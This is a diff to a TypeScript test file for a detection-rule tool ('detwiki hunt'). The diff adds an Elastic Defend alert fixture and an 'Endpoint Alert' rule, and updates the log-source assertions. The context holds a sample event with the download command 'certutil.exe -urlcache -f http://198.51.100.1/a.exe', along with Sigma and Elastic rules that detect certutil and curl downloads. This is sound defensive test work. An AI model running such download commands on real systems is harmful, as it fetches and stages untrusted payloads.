@@ -71,6 +71,8 @@ const EVENTS: readonly unknown[] = [
     ...defend('certutil.exe', ['certutil.exe', '-urlcache', '-f', 'http://198.51.100.1/a.exe'], { type: 'windows', family: 'windows', platform: 'windows' }),
     process: { name: 'certutil.exe', executable: 'C:\\Windows\\System32\\certutil.exe', command_line: 'certutil.exe -urlcache -f http://198.51.100.1/a.exe', pe: { original_file_name: 'CertUtil.exe' }, parent: { executable: 'C:\\Windows\\System32\\cmd.exe' } },
   },
+  // 10: an Elastic Defend alert: read by a rule that names only its integration
+  { '@timestamp': '2026-01-01T00:00:00Z', ecs: { version: '8.11.0' }, event: { kind: 'alert', module: 'endpoint', dataset: 'endpoint.alerts', code: 'malicious_file' }, host: { os: { type: 'windows' } } },
 ];
 
 const elastic = (id: number, name: string, index: string, query: string) => `[rule]
@@ -105,6 +107,7 @@ level: medium
 
 const FILES: Record<string, string> = {
   'elastic/rules/linux/curl.toml': elastic(1, 'Curl Download', 'logs-endpoint.events.process*', 'process where host.os.type == "linux" and event.type == "start" and process.name == "curl" and process.args == "-O"'),
+  'elastic/rules/promotions/endpoint.toml': elastic(3, 'Endpoint Alert', 'logs-endpoint.alerts-*', 'any where event.kind == "alert" and event.module == "endpoint"'),
   'elastic/rules/linux/auditd.toml': elastic(2, 'Curl Download (auditd)', 'auditbeat-*', 'process where event.type == "start" and process.name == "curl"'),
   'sigma/rules/linux/curl.yml': sigma(1, 'linux', 'process_creation', '  selection:\n    Image|endswith: /curl\n    CommandLine|contains: " -O "'),
   'sigma/rules/windows/certutil.yml': sigma(3, 'windows', 'process_creation', '  selection:\n    Image|endswith: \\certutil.exe\n    CommandLine|contains: urlcache'),
@@ -129,22 +132,24 @@ describe('detwiki hunt: Linux events and Elastic documents', () => {
       ...(await scanSource(sigmaAdapter, at('sigma'), { repository: 'test/sigma' })).rules,
       ...(await scanSource(splunkAdapter, at('splunk'), { repository: 'test/splunk' })).rules,
     ];
-    assert.equal(rules.length, 9);
+    assert.equal(rules.length, 10);
   });
   after(() => rmSync(dir, { recursive: true, force: true }));
 
   it('recognises Sysmon for Linux as Linux events, and Elastic documents in their ECS form', () => {
     assert.deepEqual(recogniseLogSources(EVENTS[0]), ['vendor:linux', 'linux.process_creation', 'vendor:linux/sysmon', 'vendor:linux/sysmon-eventlog']);
     assert.deepEqual(recogniseLogSources(EVENTS[1]), ['vendor:linux', 'linux.file', 'vendor:linux/sysmon', 'vendor:linux/sysmon-eventlog']);
-    assert.deepEqual(recogniseLogSources(EVENTS[4]), ['vendor:ecs/linux.process_creation']);
-    assert.deepEqual(recogniseLogSources(EVENTS[5]), ['vendor:ecs/macos.process_creation']);
-    assert.deepEqual(recogniseLogSources(EVENTS[6]), ['vendor:ecs/linux.process_creation']);
-    assert.deepEqual(recogniseLogSources(EVENTS[7]), ['vendor:ecs/aws.cloudtrail']);
-    assert.deepEqual(recogniseLogSources(EVENTS[8]), ['vendor:ecs']);
+    assert.deepEqual(recogniseLogSources(EVENTS[4]), ['vendor:ecs/linux.process_creation', 'vendor:ecs/vendor:elastic/endpoint', 'vendor:ecs/vendor:elastic/logs-endpoint.events.process-*']);
+    assert.deepEqual(recogniseLogSources(EVENTS[5]), ['vendor:ecs/macos.process_creation', 'vendor:ecs/vendor:elastic/endpoint', 'vendor:ecs/vendor:elastic/logs-endpoint.events.process-*']);
+    assert.deepEqual(recogniseLogSources(EVENTS[6]), ['vendor:ecs/linux.process_creation', 'vendor:ecs/vendor:elastic/auditd', 'vendor:ecs/vendor:elastic/logs-auditd.log-*']);
+    assert.deepEqual(recogniseLogSources(EVENTS[7]), ['vendor:ecs/aws.cloudtrail', 'vendor:ecs/vendor:elastic/aws', 'vendor:ecs/vendor:elastic/logs-aws.cloudtrail-*']);
+    assert.deepEqual(recogniseLogSources(EVENTS[8]), ['vendor:ecs', 'vendor:ecs/vendor:elastic/endpoint', 'vendor:ecs/vendor:elastic/logs-endpoint.metrics-*']);
     // a Windows document of Elastic Defend (no winlog): Windows by its host, a file event by its category
     assert.deepEqual(recogniseLogSources({ ecs: { version: '8.11.0' }, event: { category: ['file'] }, host: { os: { type: 'windows' } } }), ['vendor:ecs/windows.file']);
     // a network event on macOS has no canonical log source: the endpoint's, as Elastic's vocabulary names it
     assert.deepEqual(recogniseLogSources({ ecs: { version: '8.11.0' }, event: { category: 'network' }, host: { os: { type: 'macos' } } }), ['vendor:ecs/vendor:elastic.endpoint.macos.network']);
+    // an alert of Elastic Defend: its integration's and its data stream's (a rule naming only its index reads it)
+    assert.deepEqual(recogniseLogSources(EVENTS[10]), ['vendor:ecs', 'vendor:ecs/vendor:elastic/endpoint', 'vendor:ecs/vendor:elastic/logs-endpoint.alerts-*']);
   });
 
   it('each language reads the form its rules are written for, the same in process, on workers and in DuckDB', async () => {
@@ -164,6 +169,7 @@ describe('detwiki hunt: Linux events and Elastic documents', () => {
       `4 hit ${id('Curl Download (auditd)', 'elastic')}`,
       `6 hit ${id('Curl Download (auditd)', 'elastic')}`,
       `9 hit ${id('Sigma 3', 'sigma')}`,
+      `10 hit ${id('Endpoint Alert', 'elastic')}`,
     ];
     assert.deepEqual(mem, expected.sort(), mem.join('\n'));
     assert.deepEqual(par, mem);
